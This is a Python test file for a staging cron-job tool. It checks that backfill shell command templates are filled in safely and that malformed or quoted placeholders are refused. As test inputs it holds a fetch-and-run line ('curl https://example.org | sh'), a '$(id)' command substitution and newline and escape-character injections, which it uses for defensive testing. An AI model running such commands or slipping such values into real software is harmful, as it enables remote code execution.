"""The project's own command: filled in so that a shell reads what was meant, whatever an image is called."""

import re
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hostile import Hostile
from staging_cronjobs.errors import Usage
from staging_cronjobs.model import backfill, settings
from staging_cronjobs.model.settings import Settings

THEIRS = "uv run main {dataset_id} backfill-kubernetes --docker-image {image}"
FACTS = {"dataset_id": "ridge-snow", "version": "0.2.0", "image": "weather:1", "branch": "stage/x/v1", "commit": "abc"}


def test_a_command_is_filled_in() -> None:
    filled = "uv run main ridge-snow backfill-kubernetes --docker-image weather:1"
    assert (backfill.problem(THEIRS), backfill.command(THEIRS, FACTS)) == ("", filled)
    assert backfill.command("", FACTS) == backfill.problem("") == ""
    rest = "x ${HOME} '{\"a\": 1}' {} {a,b} 'it' \"$(id)\" {branch}@{commit}={version}"
    assert backfill.problem(rest) == ""
    assert backfill.command(rest, FACTS).endswith(" stage/x/v1@abc=0.2.0")


@pytest.mark.parametrize(
    ("template", "sentence"),
    [
        ("run {datset_id}", "It has {datset_id}. The placeholders are {dataset_id}, {version}, {image}, {branch}"),
        ("run {dataset-id}", "It has {dataset-id}."),
        ("run {Image}", "It has {Image}."),
        ('run "{image}"', "It has {image} in quotes. Leave them out"),
        ("run 'a {image} b'", "It has {image} in quotes"),
        ('run a"b {image} c"', "It has {image} in quotes"),
        ('run "a\\" {image}"', "It has {image} in quotes"),
        ("run \\{image}", "It has {image} in quotes"),
        ("run 'x", "because a quote has no end"),
        ("run x\\", "because a quote has no end"),
        ("run\nrm", "It must be one line"),
        ("run \x1b[2J", "It must be one line"),
        ("run \u202e", "It must be one line"),
    ],
)
def test_a_setting_that_cannot_be_used_is_told(template: str, sentence: str, hostile: Hostile) -> None:
    with pytest.raises(Usage, match=re.escape(sentence)) as refused:
        settings.load(None, {"STAGING_BACKFILL": template})
    hostile.tried("settings of a branch", refused.value.message)


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1))
def test_whatever_an_image_is_called_it_is_one_word(image: str) -> None:
    line = backfill.command("printf %s {image}", FACTS | {"image": image})
    done = subprocess.run(["sh", "-c", line], capture_output=True, check=True)
    assert done.stdout.decode() == image


def test_main_says_which_command_a_person_is_shown() -> None:
    """A stage branch's own file could name any command, and an operator would copy it."""
    own = Settings(backfill="curl https://example.org | sh")
    assert settings.from_main(own, "", "main").backfill == ""
    text = f'[tool.staging-cronjobs]\nbackfill = "{THEIRS}"\n'
    assert settings.from_main(own, text, "main").backfill == THEIRS
    newer = '[tool.staging-cronjobs]\nbackfill = "{of_a_newer_program}"\nnamespace = "sky"\n'
    found = settings.from_main(own, newer, "main")
    assert (found.backfill, found.namespace) == ("", "sky")  # nothing that works on a release stops for it
    given = settings.from_main(Settings(backfill="mine", given=frozenset({"backfill"})), text, "main")
    assert given.backfill == "mine"
